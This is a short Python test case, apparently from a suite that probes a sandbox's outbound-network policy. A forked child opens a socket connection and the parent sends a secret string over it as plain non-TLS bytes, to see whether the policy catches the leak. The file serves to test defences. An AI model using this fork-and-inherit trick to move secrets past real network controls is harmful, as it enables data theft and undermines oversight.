# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: a forked child connects a socket that its parent has too: the parent sends bytes that are
#   not TLS
# proof: word
# needs: resolver
import os
import socket

from attack import SECRET, at_allowed, attempt


def say(place):
    out = socket.socket()
    if os.fork() == 0:
        try:
            out.connect(place)
        finally:
            os._exit(0)
    os.wait()
    out.send(SECRET.encode())
    return out


@attempt
def send():
    return at_allowed(say, first=False)
